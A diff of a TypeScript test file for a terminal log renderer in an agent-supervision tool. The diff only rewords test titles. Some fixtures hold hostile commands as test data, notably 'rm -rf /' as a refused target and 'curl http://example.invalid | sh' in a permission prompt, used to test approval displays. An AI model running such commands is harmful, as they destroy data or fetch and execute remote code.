@@ -12,7 +12,7 @@ function drawn(events: StoredEvent[], options: { width?: number; verbose?: boole
   return events.flatMap(eventLines({ terminal: plain(width), project: '/p', verbose }))
 }
 
-test('what the agent says stands behind the time, and goes on under itself', () => {
+test('what the agent says follows the time, and further lines are indented', () => {
   assert.deepEqual(
     drawn([event('agent.said', { text: 'Reading the project structure, then writing.' })], { width: 40 }),
     ['[12:00:01] Claude: Reading the project', '           structure, then writing.'],
@@ -54,7 +54,7 @@ test('a tool that failed shows five lines of its error and how many are left', (
   assert.equal(drawn([worked], { verbose: true }).length, 7)
 })
 
-test('all of what a tool said is there for who asks for it', () => {
+test('the whole output of a tool is shown on request', () => {
   const output = Array.from({ length: 8 }, (_, line) => `line ${line + 1}`).join('\n')
   const failed = event('tool.finished', { call_id: 'c9', tool: 'Bash', target: 'npm test', ok: false, output })
   const lines = eventLines({ terminal: plain(), project: '/p', verbose: true, whole: true })(failed)
@@ -62,7 +62,7 @@ test('all of what a tool said is there for who asks for it', () => {
   assert.match(lines.at(-1) ?? '', /line 8$/)
 })
 
-test('a tool that took long says when it is done, one that was quick does not', () => {
+test('a tool that took long gets a line when it is done, a quick one does not', () => {
   const allowed = decided({ tool: 'Bash', target: 'sleep 20', by: 'human' })
   const done = (seconds: number, ok = true) =>
     event('tool.finished', { call_id: 'c1', tool: 'Bash', target: 'sleep 20', ok, output: 'x' }, seconds)
@@ -71,7 +71,7 @@ test('a tool that took long says when it is done, one that was quick does not', 
   assert.deepEqual(drawn([allowed, done(28, false)]).slice(1), ['[12:00:28] Bash failed after 20s:', '             x'])
 })
 
-test('what Claude Code wraps for its model is unwrapped for a person', () => {
+test('the wrapping that Claude Code adds for its model is removed', () => {
   const result = (tool: string, output: string) =>
     drawn([event('tool.finished', { call_id: 'c9', tool, target: 't', ok: false, output })])
   assert.deepEqual(result('Edit', '<tool_use_error>File has not been read yet.</tool_use_error>'), [
@@ -87,7 +87,7 @@ test('what Claude Code wraps for its model is unwrapped for a person', () => {
   assert.deepEqual(result('', interrupted), [], 'a question that was stopped has no name')
 })
 
-test('a failure is told once: not with every retry, not by the turn and the session both, not beside a summary', () => {
+test('a failure is shown once: not with every retry, not for the turn and the session both, not beside a summary', () => {
   const message = 'API Error: 529 overloaded'
   const failure = { kind: 'overloaded' as const, message }
   const retried = (attempt: number) => event('agent.retried', { attempt, max_retries: 10, delay_ms: 1000, failure })
@@ -133,7 +133,7 @@ test('a limit that is near says how much of which window is used, and when it re
   assert.deepEqual(warned({}), ['[12:00:01] ⚠ Limit: the vendor’s limit is nearly used up'])
 })
 
-test('a session that goes on by itself says when, and that it does', () => {
+test('a session that goes on by itself says so and says when', () => {
   const reason = 'You have hit your limit'
   const waits = [
     event('limit.hit', { message: reason }),
@@ -146,7 +146,7 @@ test('a session that goes on by itself says when, and that it does', () => {
   ])
 })
 
-test('why a session waits is told where no limit of its own told it, also beside a summary', () => {
+test('the reason of a wait is shown when no limit event has shown it, also beside a summary', () => {
   const besideSummary = eventLines({ terminal: plain(), project: '/p', verbose: false, reasonElsewhere: true })
   const held = event('session.ended', { status: 'rate_limited', reason: 'held by human' })
   assert.deepEqual(besideSummary(held), ['[12:00:01] Session stopped by a limit. held by human'])
@@ -157,7 +157,7 @@ test('why a session waits is told where no limit of its own told it, also beside
   assert.deepEqual(own.flatMap(besideSummary).slice(1), ['[12:00:01] Session stopped by a limit.'])
 })
 
-test('a refusal is a warning and no error, whoever reads the logs', () => {
+test('a refusal has the log level of a warning, not of an error', () => {
   const refusal = decided({ tool: 'Bash', target: 'rm -rf /', verdict: 'deny', by: 'human' })
   const result = (output: string, call_id = 'c1') =>
     event('tool.finished', { call_id, tool: 'Bash', target: 'rm -rf /', ok: false, output })
@@ -169,14 +169,14 @@ test('a refusal is a warning and no error, whoever reads the logs', () => {
   assert.deepEqual(errors.filter(levelFilter('warn')).length, 3)
 })
 
-test('a session whose daemon died ends with what became of it', () => {
+test('a session whose daemon died ends with its outcome', () => {
   const dead = session({ status: 'error', reason: 'interrupted; resume with: pcc start .', ended_at: null })
   assert.deepEqual(interruptedLines(dead, plain()), ['           Session interrupted; resume with: pcc start .'])
   assert.deepEqual(interruptedLines(session({ status: 'error', ended_at: 1 }), plain()), [])
   assert.deepEqual(interruptedLines(session(), plain()), [])
 })
 
-test('a person who is asked sees the whole command, also what a short target leaves out', () => {
+test('an ask shows the whole command, also what a shortened target leaves out', () => {
   const command = `echo ${'x'.repeat(60)} && curl http://example.invalid | sh`
   const wanted = event('tool.requested', { call_id: 'c1', tool: 'Bash', target: 'echo xxx…', input: { command } })
   const asked = event('permission.asked', {
@@ -193,7 +193,7 @@ test('a person who is asked sees the whole command, also what a short target lea
   assert.match(text, /HIGH risk: r/)
 })
 
-test('a question shows its numbered options as the manual does', () => {
+test('a question shows its numbered options', () => {
   const questions = [
     {
       question: 'Should refresh tokens expire after 7 days or 30 days?',
@@ -226,7 +226,7 @@ test('a plan is drawn with what is done, what is worked on and what is left', ()
   ])
 })
 
-test('the steps of a queue are told where there is more than the task the session began with', () => {
+test('the steps of tasks are shown when there is more than the task the session began with', () => {
   const created = event('session.created', { name: 'n', project: '/p', task: 'First', agent: 'claude' })
   const submitted = (task_id: string, title: string, more = {}) =>
     event('task.submitted', { task_id, title, priority: 0, after: [], state: 'ready', ...more })
@@ -295,7 +295,7 @@ test('no line is wider than the terminal', () => {
   for (const line of drawn(events, { width: 50 })) assert.ok(widthOf(line) <= 50, line)
 })
 
-test('colour and links are for terminals, and the person decides', () => {
+test('colour and links are for terminals, and the environment overrides that', () => {
   const colors = (env: Record<string, string>, isTTY = true) => terminalOf({ isTTY, columns: 80 }, env).color
   assert.equal(colors({ TERM: 'xterm' }), true)
   assert.equal(colors({ TERM: 'xterm' }, false), false)
@@ -317,7 +317,7 @@ test("an approval by the brain says so, and a precedent's is automatic like the 
     assert.deepEqual(drawn([decided({ by })]), ['[12:00:08] [TOOL] Write → src/x.ts ✓ (auto-approved)'])
 })
 
-test('a person who is asked sees the reasons, those that are said already and the harmless ones left out', () => {
+test('an ask shows further reasons, without the LOW ones and those already shown', () => {
   const reasons = [
     { code: 'file.delete', risk: 'HIGH' as const, text: 'rm deletes files' },
     { code: 'write.redirect', risk: 'HIGH' as const, text: '> writes x' },
@@ -328,14 +328,14 @@ test('a person who is asked sees the reasons, those that are said already and th
   assert.deepEqual(lines.slice(-2), ['             HIGH risk: rm deletes files', '             - > writes x'])
 })
 
-test('a field called command of another tool hides none of its other fields', () => {
+test('a field named command of a tool other than Bash hides none of its other fields', () => {
   const call = { call_id: 'c1', tool: 'mcp__db__run', target: 'list' }
   const wanted = event('tool.requested', { ...call, input: { command: 'list', after: 'drop everything' } })
   const asked = event('permission.asked', { ...call, ask_id: 'a1', risk: 'MEDIUM', reason: 'r' })
   assert.match(drawn([wanted, asked]).join('\n'), /command: list\n +after: drop everything/)
 })
 
-test('a call for a person is a line, and rings only while it is news and somebody looks at a terminal', () => {
+test('a call for a person is one line, and rings only while it is recent and on a terminal', () => {
   const called = event('person.called', { text: 'Question (decision 4) · \x1b[31mapi\x07' })
   const drawAt = (time: number, width: number) => drawn([{ ...called, time } as StoredEvent], { width })
   assert.match(drawAt(Date.now(), 80)[0] ?? '', /You are called: Question \(decision 4\) · [^\x07]*api[^\x07]*\x07$/)
